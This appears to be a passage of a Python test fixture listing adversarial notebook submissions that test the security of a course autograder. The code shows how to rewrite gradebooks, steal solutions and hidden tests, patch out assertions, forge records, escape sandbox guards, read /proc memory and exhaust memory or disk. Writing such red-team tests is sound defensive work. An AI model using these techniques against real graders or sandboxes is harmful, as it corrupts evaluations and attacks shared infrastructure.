"""The adversarial submission catalogue for the grading pipeline (built on ex01_losses_init).

Every exploit is an *honest wrong answer* (all functions return zeros: 0 points) plus an attack.
Each must earn no more than the honest wrong answer (0 points), get the expected status, and
leave the honest students graded in the same batch untouched.

``build_class(repo)`` returns ``{student_id: (notebook JSON bytes, expected status, expected total)}``
for the honest students and every exploit, and ``EXPLOITS`` documents what each one tries.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path

ASSIGNMENT = "ex01_losses_init"

WRONG = {
    "softmax": "def softmax(x, dim=-1):\n    return torch.zeros_like(x)\n",
    "log_softmax": "def log_softmax(x, dim=-1):\n    return torch.zeros_like(x)\n",
    "cross_entropy": (
        "def cross_entropy(logits, targets, reduction='mean'):\n"
        "    z = torch.zeros(logits.shape[0], dtype=logits.dtype)\n"
        "    return z if reduction == 'none' else z.sum()\n"
    ),
    "multiclass_hinge_loss": (
        "def multiclass_hinge_loss(scores, targets, margin=1.0, reduction='mean'):\n"
        "    z = torch.zeros(scores.shape[0], dtype=scores.dtype)\n"
        "    return z if reduction == 'none' else z.sum()\n"
    ),
    "kaiming": (
        "def kaiming_std(fan_in, gain=math.sqrt(2.0)):\n    return 1.0\n\n"
        "def kaiming_normal(shape, fan_in, gain=math.sqrt(2.0), generator=None):\n"
        "    return torch.zeros(shape)\n"
    ),
}

LIAR = '''
class Liar(torch.Tensor):
    """A tensor that claims to equal everything and to be close to anything."""
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        kwargs = kwargs or {}
        name = getattr(func, "__name__", "")
        with torch._C.DisableTorchFunctionSubclass():
            if name in ("__eq__", "eq", "isclose", "__le__", "le", "__lt__", "lt", "__ge__", "ge"):
                return torch.ones(args[0].shape, dtype=torch.bool)
            if name in ("allclose", "equal"):
                return True
            if name in ("__sub__", "sub", "__rsub__", "abs", "__abs__"):
                return torch.zeros(args[0].shape)
            return func(*args, **kwargs)
    def __eq__(self, other): return torch.ones(self.shape, dtype=torch.bool)
    def __abs__(self): return torch.zeros(self.shape)
    def __lt__(self, other): return torch.ones(self.shape, dtype=torch.bool)

def softmax(x, dim=-1):
    return torch.zeros_like(x).as_subclass(Liar)

def log_softmax(x, dim=-1):
    return torch.zeros_like(x).as_subclass(Liar)
'''

NO_ASSERTS = """
import ast
class _NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Call(self, node):
        self.generic_visit(node)
        if isinstance(node.func, ast.Name) and node.func.id in ("assert_close", "record"):
            return ast.Constant(None)
        return node
get_ipython().ast_transformers.append(_NoAsserts())
get_ipython().input_transformers_post.append(lambda lines: [l for l in lines if "assert" not in l])
"""

EXPLOITS: dict[str, dict] = {
    "gradebook_rewrite": {
        "doc": "find every gradebook.db it can and rewrite scores / overwrite the file",
        "prefix": """
import glob, os, sqlite3
for pattern in ("/tmp/**/gradebook.db", "{repo}/**/gradebook.db", "/root/*/gradebook.db", "../../**/gradebook.db", "/*/gradebook.db"):
    for path in glob.glob(pattern, recursive=True)[:50]:
        try:
            con = sqlite3.connect(path); con.execute("UPDATE grade SET auto_score = 100"); con.commit()
        except Exception:
            pass
        try:
            open(path, "wb").write(b"garbage")
        except Exception:
            pass
""",
    },
    "read_solutions": {
        "doc": "read solutions/ (and exercises/, the submissions) and run the reference answers",
        "prefix": """
import glob, json, os
stolen = 0
for path in glob.glob("{repo}/solutions/**/*.ipynb", recursive=True) + glob.glob("/tmp/**/*.ipynb", recursive=True):
    try:
        nb = json.load(open(path))
    except Exception:
        continue
    for cell in nb["cells"]:
        src = "".join(cell["source"])
        if "BEGIN SOLUTION" in src:
            exec(src, globals()); stolen += 1
        if "BEGIN HIDDEN TESTS" in src:
            print(src)
print("SOLUTIONS-VISIBLE:", stolen > 0, os.path.exists("{repo}/solutions"))
""",
    },
    "patch_testing": {
        "doc": "patch numpy.testing, torch.allclose, torch.testing and the course's check helpers",
        "prefix": """
import contextlib, numpy.testing, torch.testing
import course_lib.grading.checks as _checks
numpy.testing.assert_allclose = lambda *a, **k: None
torch.testing.assert_close = lambda *a, **k: None
torch.allclose = lambda *a, **k: True
_checks.assert_close = lambda *a, **k: None
_checks.record = lambda *a, **k: None
_checks.forbidden = lambda *a, **k: contextlib.nullcontext()
_checks.plain = lambda v: v
""",
    },
    "shadow_modules": {
        "doc": "shadow np/torch names and replace the checks module in sys.modules",
        "prefix": """
import sys, types
class _Any:
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __bool__(self): return True
    def __iter__(self): return iter(())
    def __enter__(self): return self
    def __exit__(self, *a): return True
    def __getitem__(self, k): return self
    def __gt__(self, o): return True
    def __lt__(self, o): return True
_fake = types.ModuleType("course_lib.grading.checks")
for _n in ("assert_close", "forbidden", "plain", "record", "quiet"):
    setattr(_fake, _n, _Any())
sys.modules["course_lib.grading.checks"] = _fake
np = _Any()
""",
    },
    "ast_transformer": {
        "doc": "register IPython AST/input transformers that delete asserts and check calls",
        "prefix": NO_ASSERTS,
    },
    "patched_assertionerror": {
        "doc": "replace AssertionError, hide tracebacks, swallow every exception",
        "prefix": """
import builtins
builtins.AssertionError = type("AssertionError", (Exception,), {})
_ip = get_ipython()
_ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
_ip.showtraceback = lambda *a, **k: None
""",
    },
    "lying_tensor": {
        "doc": "return tensor subclasses whose ==, abs, <, allclose, sub lie",
        "answers": {"softmax": LIAR},
    },
    "sys_exit": {
        "doc": "sys.exit() in the answer cell, SystemExit inside the functions",
        "prefix": "import sys\nsys.exit(0)\n",
        "answers": {"log_softmax": "def log_softmax(x, dim=-1):\n    raise SystemExit(0)\n"},
    },
    "os_exit": {
        "doc": "os._exit() kills the kernel",
        "prefix": "import os\nos._exit(0)\n",
        "status": "kernel-died",
    },
    "keyboard_interrupt": {
        "doc": "raise KeyboardInterrupt at top level and inside the functions",
        "prefix": "raise KeyboardInterrupt\n",
        "answers": {"log_softmax": "def log_softmax(x, dim=-1):\n    raise KeyboardInterrupt\n"},
    },
    "infinite_loop": {
        "doc": "the function under test never returns",
        "answers": {"softmax": "def softmax(x, dim=-1):\n    while True:\n        pass\n"},
        "status": "timeout",
    },
    "swallow_interrupts": {
        "doc": "a top-level loop that ignores SIGINT and swallows KeyboardInterrupt",
        "prefix": """
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        time.sleep(0.05)
    except BaseException:
        pass
""",
        # signal.signal is refused while grading: the cell fails before its loop starts
        "status": "ok",
    },
    "memory_bomb": {
        "doc": "allocate until the memory cap stops it (a huge tensor, then Python bytes in a function)",
        "prefix": """
try:
    torch.empty(10**12)
except RuntimeError:
    pass
def _bomb():
    hog = []
    while True:
        hog.append(bytearray(10**8))
_bomb()
""",
        "status": "out-of-memory",
    },
    "memory_bomb_held": {
        "doc": "allocate until the cap and keep the memory: MemoryError, the runner stops",
        "prefix": "_hog = []\nwhile True:\n    _hog.append(bytearray(10**8))\n",
        "status": "out-of-memory",
    },
    "huge_output": {
        "doc": "print tens of megabytes",
        "prefix": 'print("x" * 30_000_000)\nfor _ in range(2000):\n    print("spam " * 200)\n',
    },
    "fake_pass": {
        "doc": "print 'all tests passed' and fake score outputs",
        "prefix": """
from IPython.display import display
print("All tests passed! Score: 20/20")
display(20.0)
_orig_softmax = None
""",
        "answers": {
            "log_softmax": "def log_softmax(x, dim=-1):\n    print('test passed 20/20')\n    return torch.zeros_like(x)\n"
        },
    },
    "edited_metadata": {
        "doc": "raise points to 100, rename grade ids, unlock cells, forge checksums, empty tests",
        "transform": "edit_metadata",
        "status": "restored",
    },
    "deleted_cells": {
        "doc": "delete every test cell",
        "transform": "delete_tests",
        "status": "restored",
    },
    "duplicated_cells": {
        "doc": "duplicate every test cell and an answer cell (stops a plain nbgrader batch)",
        "transform": "duplicate",
        "status": "restored",
    },
    "reordered_cells": {
        "doc": "reverse the order of all cells",
        "transform": "reverse",
        "status": "restored",
    },
    "env_aware": {
        "doc": "cheat only when grading env vars are set: forge/symlink records, lock the record dir",
        "prefix": """
import os
_flag = os.environ.get("NBGRADER_EXECUTION") or os.environ.get("COURSE_GRADE_RECORD_DIR")
print("ENV-SEEN:", bool(os.environ.get("NBGRADER_EXECUTION")))
_rec = os.environ.get("COURSE_GRADE_RECORD_DIR")
if _rec:
    for gid in ("test_softmax_visible", "test_softmax_hidden", "test_hinge_visible"):
        os.makedirs(os.path.join(_rec, gid), exist_ok=True)
        for name in ("small", "case0", "case1", "table", "mean"):
            try:
                os.symlink("/etc/passwd", os.path.join(_rec, gid, name + ".npy"))
            except OSError:
                pass
    os.chmod(_rec, 0o500)
"""
        + NO_ASSERTS.replace("\nget_ipython()", "\nif _flag: get_ipython()"),
    },
    "network": {
        "doc": "try the internet and local services",
        "prefix": """
import socket, urllib.request
_net = []
for host, port in (("1.1.1.1", 80), ("8.8.8.8", 53), ("127.0.0.1", 22)):
    s = socket.socket(); s.settimeout(2)
    try:
        s.connect((host, port)); _net.append(host)
    except OSError:
        pass
try:
    urllib.request.urlopen("http://example.com", timeout=2); _net.append("http")
except Exception:
    pass
print("NETWORK-REACHED:", _net)
""",
    },
    "background_thread": {
        "doc": "a busy thread, a thread that forges records, a detached child process",
        "prefix": """
import os, subprocess, threading, time
import numpy
def _busy():
    while True:
        pass
def _forge():
    rec = os.environ.get("COURSE_GRADE_RECORD_DIR", "/tmp/none")
    while True:
        for root, dirs, files in os.walk(rec):
            for f in files:
                if f.endswith(".npy"):
                    try:
                        numpy.save(os.path.join(root, f), numpy.zeros(3))
                    except Exception:
                        pass
        time.sleep(0.01)
threading.Thread(target=_busy, daemon=True).start()
threading.Thread(target=_forge, daemon=True).start()
subprocess.Popen(["sleep", "987"], start_new_session=True)
""",
    },
    "read_others": {
        "doc": "look for other students' sandboxes, the output folder and the parent's files",
        "prefix": """
import glob, os
_seen = [p for p in glob.glob("/tmp/**", recursive=True) if "records" in p and not p.startswith(os.getcwd())]
_seen += [p for p in glob.glob("{repo}/*") if not p.endswith("course_lib")]  # the library is public
print("OTHERS-VISIBLE:", len(_seen))
""",
    },
    "forbidden_bypass": {
        "doc": "capture F.softmax at import and disable the forbidden() helper, call the reference",
        "answers": {
            "softmax": (
                "import contextlib\nfrom torch.nn.functional import softmax as _sm\n"
                "import course_lib.grading.checks as _c\n"
                "_c.forbidden = lambda *a, **k: contextlib.nullcontext()\n"
                "def softmax(x, dim=-1):\n    return _sm(x, dim=dim)\n"
            )
        },
        "flagged": True,
    },
    "forged_records_helpers": {
        "doc": "rebind record/assert_close through importlib + strings so that every test records "
        "the oracle's expected value instead of the student's output",
        "prefix": """
import importlib
_c = importlib.import_module("course_lib.gr" + "ading.che" + "cks")
_real = getattr(_c, "rec" + "ord")
_last = {}
def _rec(key, value, *a, **k):
    _last["key"] = key
def _ac(actual, expected, *a, **k):
    if "key" in _last:
        _real(_last.pop("key"), expected)
setattr(_c, "rec" + "ord", _rec)
setattr(_c, "assert" + "_close", _ac)
setattr(_c, "pl" + "ain", lambda v: v)
""",
        "flagged": True,
    },
    "forged_protocol": {
        "doc": "write fake results (all passed, any records) into every file descriptor",
        "prefix": """
import json, os
_fake = json.dumps({"op": "result", "token": "guess", "ok": True, "records": {}}) + chr(10)
for _fd in range(3, 256):
    try:
        os.write(_fd, _fake.encode())
    except OSError:
        pass
""",
        "status": "tampered",
    },
    "forged_sink": {
        "doc": "reach the runner's record sink through the helpers' defaults and closures",
        "prefix": """
import course_lib.grading.checks as _c
_leaks = []
for _get in (lambda: _c.record.__kwdefaults__, lambda: _c.forbidden.__enter__.__kwdefaults__,
             lambda: _c.record.__globals__["_sink"]):
    try:
        _leaks.append(_get())
    except Exception as exc:
        _leaks.append(type(exc).__name__)
print("SINK-REACHED:", [type(l).__name__ for l in _leaks])
""",
    },
    "captured_references": {
        "doc": "reach the reference through default args, closures, functools.partial, class "
        "attributes and torch._C bindings captured before the tests",
        "answers": {
            "softmax": (
                "import functools\nimport torch.nn.functional as F\n"
                "_p = functools.partial(F.softmax)\n"
                "def softmax(x, dim=-1, _f=F.softmax):\n    return _p(x, dim=dim)\n"
            ),
            "log_softmax": (
                "_bind = torch._C._nn.log_softmax if hasattr(torch._C._nn, 'log_softmax') "
                "else torch._C._VariableFunctions.log_softmax\n"
                "def log_softmax(x, dim=-1):\n    return _bind(x, dim)\n"
            ),
            "cross_entropy": (
                "import torch.nn.functional as F\n"
                "def _make(ce=F.cross_entropy):\n"
                "    def inner(logits, targets, reduction='mean'):\n"
                "        return ce(logits, targets, reduction=reduction)\n"
                "    return inner\n"
                "cross_entropy = _make()\n"
            ),
            "multiclass_hinge_loss": (
                "import torch.nn.functional as F\n"
                "class _Holder:\n    loss = staticmethod(F.multi_margin_loss)\n"
                "def multiclass_hinge_loss(scores, targets, margin=1.0, reduction='mean'):\n"
                "    per = _Holder.loss(scores, targets, margin=margin, reduction='none') * scores.shape[1]\n"
                "    return per if reduction == 'none' else per.mean() if reduction == 'mean' else per.sum()\n"
            ),
        },
    },
    "dispatch_escape": {
        "doc": "pop the dispatch-mode stack / stop the profiler around a captured F.softmax",
        "answers": {
            "softmax": (
                "import torch.nn.functional as F\n"
                "from torch.utils._python_dispatch import _disable_current_modes\n"
                "_sm = F.softmax\n"
                "def softmax(x, dim=-1):\n"
                "    with _disable_current_modes(), torch._C._DisableTorchDispatch():\n"
                "        return _sm(x, dim=dim)\n"
            ),
            "log_softmax": (
                "_ls = torch.log_softmax\n"
                "def log_softmax(x, dim=-1):\n"
                "    for stop in ('_disable_profiler_legacy', '_disable_profiler'):\n"
                "        try:\n            getattr(torch.autograd, stop)()\n"
                "        except Exception:\n            pass\n"
                "    return _ls(x, dim=dim)\n"
            ),
        },
    },
    "profiler_hijack": {
        "doc": "stop the grader's profiler session (torch._C._autograd reached through strings) "
        "and start a new one, then run a softmax captured before the tests; with torch 2.14 a "
        "second disable deadlocked kineto in about one run in four (timeout or crash by timing)",
        "flagged": True,
        "prefix": """
import importlib
_ctl = importlib.import_module("torch._C." + "_autograd")
_sm = torch._C._VariableFunctions.softmax
""",
        "answers": {
            "softmax": (
                "def softmax(x, dim=-1):\n"
                "    for stop in ('_disable_' + 'profiler', '_disable_' + 'profiler_legacy'):\n"
                "        try:\n            getattr(_ctl, stop)()\n"
                "        except Exception:\n            pass\n"
                "    try:\n"
                "        with torch.profiler.profile():\n            pass\n"
                "    except Exception:\n        pass\n"
                "    return _sm(x, dim)\n"
            ),
        },
    },
    "trusted_phase": {
        "doc": "student callbacks (an exception's __str__ and __del__) run while the runner is trusted: reach serve()'s frame, disable the guard, copy hidden test sources into the error name",
        "flagged": True,
        "answers": {
            "softmax": 'import torch.nn.functional as F\n\n_G = {"src": []}\n\nclass _Probe(Exception):\n    def __str__(self):  # called by the runner\'s except clause, after it set phase = "trusted"\n        tb = self.__traceback__\n        while tb is not None and "fr" not in _G:\n            fr = getattr(tb, "tb_frame")\n            fl = getattr(fr, "f_locals")\n            if "guard" in fl and "cell" in fl:\n                _G.update(fr=fr, cell=fl["cell"], guard=fl["guard"])\n                g, cell, orig = fl["guard"], fl["cell"], fl["guard"].exit\n                def _exit():\n                    orig()\n                    cell["violations"].clear()\n                    return None\n                g.exit = _exit\n            tb = getattr(tb, "tb_next")\n        return "probe"\n\ndef _peek():\n    fr = _G.get("fr")\n    if fr is not None:\n        line = getattr(fr, "f_locals").get("line", "")\n        if line and line not in _G["src"] and "HIDDEN" in line:\n            _G["src"].append(line)\n\ndef softmax(x, dim=-1, _f=torch.softmax):\n    _peek()\n    return _f(x, dim)\n\nraise _Probe()\n',
            "log_softmax": "def log_softmax(x, dim=-1, _f=torch.log_softmax):\n    _peek()\n    return _f(x, dim)\n",
            "cross_entropy": 'def cross_entropy(logits, targets, reduction="mean", _f=F.cross_entropy):\n    _peek()\n    return _f(logits, targets, reduction=reduction)\n',
            "multiclass_hinge_loss": 'def multiclass_hinge_loss(scores, targets, margin=1.0, reduction="mean", _f=F.multi_margin_loss):\n    _peek()\n    per = _f(scores, targets, margin=margin, reduction="none") * scores.shape[1]\n    return per if reduction == "none" else per.mean() if reduction == "mean" else per.sum()\n',
            "kaiming": 'def kaiming_std(fan_in, gain=math.sqrt(2.0)):\n    return 1.0\n\ndef kaiming_normal(shape, fan_in, gain=math.sqrt(2.0), generator=None):\n    return torch.zeros(shape)\n\n\nclass _Leak(Exception):\n    def __del__(self):  # freed at the end of the runner\'s except clause (trusted phase)\n        getattr(_G["fr"], "f_locals")["result"]["ename"] = "LEAK " + " ||| ".join(_G["src"])\n\nraise _Leak()\n',
        },
    },
    "thread": {
        "doc": "compute the forbidden functions in a second Python thread (the profiler and the tracer follow one thread)",
        "flagged": True,
        "answers": {
            "softmax": 'import threading\nimport torch.nn.functional as F\n\ndef _in_thread(fn, *a, **k):\n    box = {}\n    t = threading.Thread(target=lambda: box.update(v=fn(*a, **k)))\n    t.start()\n    t.join()\n    return box["v"]\n\ndef softmax(x, dim=-1, _f=torch.softmax):\n    return _in_thread(_f, x, dim)\n',
            "log_softmax": "def log_softmax(x, dim=-1, _f=torch.log_softmax):\n    return _in_thread(_f, x, dim)\n",
            "cross_entropy": 'def cross_entropy(logits, targets, reduction="mean", _f=F.cross_entropy):\n    return _in_thread(_f, logits, targets, reduction=reduction)\n',
            "multiclass_hinge_loss": 'def multiclass_hinge_loss(scores, targets, margin=1.0, reduction="mean", _f=F.multi_margin_loss):\n    per = _in_thread(_f, scores, targets, margin=margin, reduction="none") * scores.shape[1]\n    return per if reduction == "none" else per.mean() if reduction == "mean" else per.sum()\n',
        },
    },
    "clone_kernel": {
        "doc": "register a Python kernel for aten::clone (torch._C._dispatch_library) that writes the forbidden result into the record after the guard ended",
        "flagged": True,
        "answers": {
            "softmax": '_lib = object.__getattribute__(torch, "_" + "C")._dispatch_library("IMPL", "aten", "", "x", 0)\n_pending = {}\n\ndef _clone(t, memory_format=None):\n    out = torch.empty_like(t).copy_(t)\n    info = _pending.pop(t.data_ptr(), None)\n    if info is not None:\n        if info[0] == "in":  # plain() inside the forbidden block: remember the copy\n            _pending[out.data_ptr()] = ("out", info[1], out)\n        else:  # record()/assert_close() after the block: fill in the real answer\n            real = info[1]()\n            info[2].copy_(real)\n            out.copy_(real)\n    return out\n\n_lib.impl("clone", "CPU", _clone, False)\n\ndef _later(like, thunk):\n    z = torch.zeros(like.shape, dtype=like.dtype)\n    _pending[z.data_ptr()] = ("in", thunk)\n    return z\n\ndef softmax(x, dim=-1, _f=torch.softmax):\n    return _later(x, lambda: _f(x, dim))\n',
            "log_softmax": "def log_softmax(x, dim=-1, _f=torch.log_softmax):\n    return _later(x, lambda: _f(x, dim))\n",
            "cross_entropy": 'import torch.nn.functional as F\ndef cross_entropy(logits, targets, reduction="mean", _f=F.cross_entropy):\n    shape = logits[:, 0] if reduction == "none" else logits[0, 0]\n    return _later(shape, lambda: _f(logits, targets, reduction=reduction))\n',
        },
    },
    "altops": {
        "doc": "other ATen operators with the same maths (_masked_softmax, logcumsumexp) instead of the forbidden ones",
        "flagged": True,
        "answers": {
            "softmax": "def softmax(x, dim=-1):\n    return torch._masked_softmax(x, torch.zeros_like(x, dtype=torch.bool), dim % x.dim())\n",
            "log_softmax": "def log_softmax(x, dim=-1):\n    return x - torch.logcumsumexp(x, dim).narrow(dim, x.shape[dim] - 1, 1)\n",
            "cross_entropy": 'def cross_entropy(logits, targets, reduction="mean"):\n    lse = torch.logcumsumexp(logits, 1)[:, -1]\n    losses = lse - logits[torch.arange(logits.shape[0]), targets]\n    return losses if reduction == "none" else losses.mean() if reduction == "mean" else losses.sum()\n',
        },
    },
    "trusted_phase_finalizer": {
        "doc": "an exception left uncaught by the answer cell is freed by the runner (trusted "
        "phase): its __del__ asks for sys._getframe and tb_frame (both refused and flagged)",
        "answers": {
            "softmax": (
                "import sys\n"
                "_R = []\n"
                "def softmax(x, dim=-1):\n    return torch.zeros_like(x)\n"
                "class _Late(Exception):\n"
                "    def __del__(self):\n"
                "        for probe in (lambda: sys._getframe(1), lambda: self.__traceback__.tb_frame):\n"
                "            try:\n                _R.append(type(probe()).__name__)\n"
                "            except Exception as e:\n                _R.append(type(e).__name__)\n"
                "raise _Late()\n"
            ),
            "log_softmax": (
                "print('TRUSTED-PHASE:', _R)\n"
                "def log_softmax(x, dim=-1):\n    return torch.zeros_like(x)\n"
            ),
        },
    },
    "disk_fill": {
        "doc": "fill the working directory (it was a bind of the host's disk) with 4 x 50 MB",
        "prefix": """
import errno
_written = 0
try:
    for _i in range(4):
        with open(f"fill{_i}.bin", "wb") as _f:
            for _ in range(50):
                _f.write(b"\\1" * (1 << 20))
                _written += 1
    print("DISK-WROTE", _written)
except OSError as _e:
    print("DISK-STOPPED", errno.errorcode.get(_e.errno), _written)
""",
    },
    "library_through_strings": {
        "doc": "scipy.special.softmax / log_softmax reached with importlib and getattr on strings",
        "prefix": """
import importlib
_sp = importlib.import_module("sci" + "py.spe" + "cial")
_soft = getattr(_sp, "soft" + "max")
""",
        "answers": {
            "softmax": (
                "def softmax(x, dim=-1):\n"
                "    return torch.from_numpy(_soft(x.numpy(), axis=dim)).to(x.dtype)\n"
            ),
            "log_softmax": (
                "def log_softmax(x, dim=-1):\n"
                "    f = getattr(_sp, 'log_' + 'softmax')\n"
                "    return torch.from_numpy(f(x.numpy(), axis=dim)).to(x.dtype)\n"
            ),
        },
        "flagged": True,
    },
    "shared_memory_bomb": {
        "doc": "an anonymous shared mapping of 4 GiB, every page touched (RLIMIT_DATA misses it)",
        "prefix": """
import mmap
_m = mmap.mmap(-1, 4 << 30)
for _i in range(0, len(_m), 4096):
    _m[_i] = 1
""",
        "status": "out-of-memory",
    },
    "shared_memory_held": {
        "doc": "shared mappings of 64 MiB kept until the cap: the memory stays full",
        "prefix": """
import mmap
_held = []
while True:
    _m = mmap.mmap(-1, 64 << 20)
    _m[::4096] = b"x" * len(range(0, 64 << 20, 4096))
    _held.append(_m)
""",
        "status": "out-of-memory",
    },
    "history_frame_leak": {
        "doc": "copy hidden test code into the feedback: In/_ih, caller frames, tracebacks, "
        "linecache, a signal handler's frame, gc",
        "answers": {
            "softmax": """
import sys
def softmax(x, dim=-1):
    leak = []
    for grab in (lambda: In[-1], lambda: _ih[-1],
                 lambda: sys._getframe(1).f_code.co_consts,
                 lambda: __import__("inspect").currentframe().f_back.f_globals,
                 lambda: [c for c in __import__("gc").get_objects() if type(c).__name__ == "code"][:3]):
        try:
            leak.append(repr(grab())[:100])
        except Exception as exc:
            leak.append(type(exc).__name__)
    try:
        raise RuntimeError
    except RuntimeError as err:
        try:
            leak.append(repr(err.__traceback__.tb_frame.f_back.f_code.co_consts)[:100])
        except Exception as exc:
            leak.append(type(exc).__name__)
    import linecache
    leak.append(repr([l for f in list(linecache.cache) for l in linecache.getlines(f)])[:100])
    try:
        import signal
        signal.signal(signal.SIGALRM, lambda s, f: leak.append(repr(f.f_globals)[:100]))
        signal.setitimer(signal.ITIMER_REAL, 0.0001)
    except Exception as exc:
        leak.append(type(exc).__name__)
    raise ValueError("LEAK:" + "|".join(leak))
""",
        },
    },
    "guard_pop": {
        "doc": "end the grader's forbidden block from inside the answer (forbidden().__exit__, "
        "then a fresh __enter__ for the test to pop) and record the expected value itself",
        "flagged": True,
        "answers": {
            "softmax": (
                "from course_lib.grading.checks import forbidden, record\n"
                "_T = []\n"
                "def _try(step, name):\n"
                "    try:\n        step()\n        _T.append(name + ' ran')\n"
                "    except Exception as e:\n        _T.append(name + ' ' + type(e).__name__)\n"
                "def softmax(x, dim=-1, _f=torch.softmax):\n"
                "    _try(lambda: forbidden().__exit__(None, None, None), 'exit')\n"
                "    _try(lambda: forbidden().__enter__(), 'enter')\n"
                "    _try(lambda: record('test_softmax_hidden/rand0', _f(x, dim)), 'record')\n"
                "    return _f(x, dim)\n"
            ),
        },
    },
    "renamed_code": {
        "doc": "give student functions a test cell's or a library's file name (code.replace, "
        "_imp._fix_co_filename, compile) so that sys._getframe reaches serve() and the guard",
        "flagged": True,
        "answers": {
            "softmax": (
                "import sys, os, _imp\n"
                "_R = []\n"
                "def _fr(depth):\n    return sys._getframe(depth)\n"
                "def _rename(fn, name):\n    _imp._fix_co_filename(fn.__code__, name)\n"
                "for _name, _how in (\n"
                "    ('replace', lambda: setattr(_fr, '__code__', _fr.__code__.replace(co_filename='<test forged>'))),\n"
                "    ('fix', lambda: _rename(_fr, os.__file__)),\n"
                "    ('compile', lambda: compile('x = 1', '<test forged>', 'exec')),\n"
                "):\n"
                "    try:\n        _how()\n        _R.append(_name + ' ran')\n"
                "    except Exception as e:\n        _R.append(_name + ' ' + type(e).__name__)\n"
                "def softmax(x, dim=-1, _f=torch.softmax):\n"
                "    for d in range(1, 8):\n"
                "        try:\n            fl = _fr(d).f_locals\n"
                "        except Exception as e:\n            _R.append('frame ' + type(e).__name__)\n            break\n"
                "        if 'guard' in fl and 'cell' in fl:\n"
                "            g, cell, orig = fl['guard'], fl['cell'], fl['guard'].exit\n"
                "            g.exit = lambda: (orig(), cell['violations'].clear())[0]\n"
                "            _R.append('reached serve')\n"
                "    return _f(x, dim)\n"
                "try:\n    _rename(softmax, os.__file__)\n"
                "except Exception as e:\n    _R.append('fix softmax ' + type(e).__name__)\n"
            ),
        },
    },
    "exec_finalizer": {
        "doc": "trusted_phase_finalizer with the class compiled by exec (its code is named "
        "'<string>', not '<answer ...>'): the runner still sees student code on the stack",
        "answers": {
            "softmax": (
                "_R = []\n"
                "_SRC = (\n"
                "    'import sys\\n'\n"
                "    'class _Late(Exception):\\n'\n"
                "    '    def __del__(self):\\n'\n"
                "    '        for probe in (lambda: sys._getframe(1), lambda: self.__traceback__.tb_frame):\\n'\n"
                "    '            try:\\n'\n"
                "    '                _R.append(type(probe()).__name__)\\n'\n"
                "    '            except Exception as e:\\n'\n"
                "    '                _R.append(type(e).__name__)\\n'\n"
                ")\n"
                "exec(_SRC)\n"
                "def softmax(x, dim=-1):\n    return torch.zeros_like(x)\n"
                "raise _Late()\n"
            ),
        },
    },
    "new_tasks": {
        "doc": "start a thread through a re-imported _thread, and a process with "
        "_posixsubprocess.fork_exec (neither raises an audit event); the kernel refuses both",
        "answers": {
            "softmax": (
                "import sys, importlib\n"
                "_R = []\n"
                "try:\n"
                "    sys.modules.pop('_thread', None)\n"
                "    _t = importlib.import_module('_thread')\n"
                "    _t.start_new_thread(print, ())\n"
                "    _R.append('thread ran')\n"
                "except Exception as e:\n    _R.append('thread ' + type(e).__name__)\n"
                "try:\n"
                "    import os, _posixsubprocess\n"
                "    _r, _w = os.pipe()\n"
                "    _pid = _posixsubprocess.fork_exec(\n"
                "        [b'/bin/true'], [b'/bin/true'], True, (), None, None, -1, -1, -1, -1, -1, -1,\n"
                "        _r, _w, False, False, -1, None, None, None, -1, None, False)\n"
                "    _R.append('process ran')\n"
                "except Exception as e:\n    _R.append('process ' + type(e).__name__)\n"
                "print('NEW-TASKS:', _R)\n"
                "def softmax(x, dim=-1):\n"
                "    return torch.zeros_like(x)\n"
            ),
        },
    },
    "proc_memory_routes": {
        "doc": "open the runner's memory by routes the old /proc/*/mem check missed: a bytes "
        "path, //proc, a dir_fd, a symbolic link, chdir",
        "prefix": """
import os
_R = []
for _name, _how in (
    ("bytes", lambda: open(b"/proc/self/mem", "rb")),
    ("slashes", lambda: open("//proc/self/mem", "rb")),
    ("dir_fd", lambda: os.open("mem", os.O_RDONLY, dir_fd=os.open("/proc/self", os.O_RDONLY))),
    ("root_fd", lambda: os.open("proc/self/mem", os.O_RDONLY, dir_fd=os.open("/", os.O_RDONLY))),
    ("symlink", lambda: (os.symlink("/proc/self/mem", "m"), open("m", "rb"))),
    ("chdir", lambda: (os.chdir("/proc/self"), open("mem", "rb"))),
):
    try:
        _how()
        _R.append(_name + " opened")
    except Exception as _e:
        _R.append(_name + " " + type(_e).__name__)
print("PROC-MEM:", _R)
""",
    },
    "frozen_compile": {
        "doc": "compile the answer under an import-machinery or library file name (<frozen ...>, "
        "os.__file__) so that the frame rules take it for library code and sys._getframe "
        "reaches serve(): the guard's state and the records",
        "flagged": True,
        "answers": {
            "softmax": (
                "import os\n"
                "_R = []\n"
                "_SRC = (\n"
                "    'def softmax(x, dim=-1):\\n'\n"
                "    '    import sys\\n'\n"
                "    '    try:\\n'\n"
                "    '        d = 1\\n'\n"
                "    '        while sys._getframe(d).f_code.co_name != \"serve\":\\n'\n"
                "    '            d += 1\\n'\n"
                "    '        cell = sys._getframe(d).f_locals[\"cell\"]\\n'\n"
                "    '        cell[\"violations\"].clear()\\n'\n"
                "    '        _R.append(\"reached serve\")\\n'\n"
                "    '    except Exception as e:\\n'\n"
                "    '        _R.append(type(e).__name__)\\n'\n"
                "    '    return torch.softmax(x, dim)\\n'\n"
                ")\n"
                "for _name in ('<frozen importlib._x>', os.__file__):\n"
                "    try:\n"
                "        exec(compile(_SRC, _name, 'exec'), globals())\n"
                "        _R.append('compiled')\n"
                "    except Exception as e:\n"
                "        _R.append('compile ' + type(e).__name__)\n"
                "print('FROZEN:', _R)\n"
                "def softmax(x, dim=-1):\n    return torch.zeros_like(x)\n"
            ),
        },
    },
    "builtins_injection": {
        "doc": "a module of the student's as the notebook's __builtins__ (copied into the test "
        "namespace, it would run every import of the test cells): forbidden() becomes a no-op",
        "answers": {
            "softmax": (
                "import types, contextlib\n"
                "import builtins as _b\n"
                "_fake = types.ModuleType('fake_builtins')\n"
                "_fake.__dict__.update(vars(_b))\n"
                "_real = _b.__import__\n"
                "def _imp(name, g=None, l=None, fromlist=(), level=0):\n"
                "    m = _real(name, g, l, fromlist, level)\n"
                "    if name == 'course_lib.grading.checks' and fromlist:\n"
